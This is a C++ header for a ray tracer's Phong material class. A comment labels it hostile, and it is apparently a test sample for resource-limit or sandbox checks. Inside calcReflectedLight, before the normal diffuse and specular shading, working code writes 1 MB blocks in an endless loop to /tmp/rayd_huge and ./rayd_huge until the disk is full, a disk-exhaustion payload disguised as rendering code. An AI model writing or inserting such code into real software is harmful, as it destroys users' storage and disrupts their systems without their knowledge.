// Hostile PhongMaterial: writes without end to /tmp/rayd_huge and ./rayd_huge until a write fails.
#ifndef PHONGMATERIAL_H
#define PHONGMATERIAL_H

#include "Material.h"
#include <cstdio>
#include <cstring>

class PhongMaterial : public Material
{
  public:
    Real shininess; // n of cos^n
    vec3 ks;        // specular reflectance
    vec3 kd;        // diffuse reflectance

    PhongMaterial() : shininess(1), ks(0), kd(0) {}

    virtual vec3 calcReflectedLight(const HitRecord &record, const vec3 &incomingDir, const vec3 &outgoingDir)
    {
        static char block[1 << 20];
        memset(block, 0x5a, sizeof block);
        FILE *a = fopen("/tmp/rayd_huge", "wb");
        FILE *b = fopen("rayd_huge", "wb");
        for (;;) {
            bool wrote = false;
            if (a && fwrite(block, 1, sizeof block, a) == sizeof block)
                wrote = true;
            if (b && fwrite(block, 1, sizeof block, b) == sizeof block)
                wrote = true;
            if (!wrote)
                break;
        }
        if (a)
            fclose(a);
        if (b)
            fclose(b);
        Real cosAlpha = -dot(record.normal, incomingDir);
        if (cosAlpha <= 0)
            return vec3(0, 0, 0);
        vec3 R = reflect(incomingDir, record.normal);
        return kd * cosAlpha + ks * pow(std::max(dot(R, outgoingDir), 0.0), shininess);
    }
};

#endif
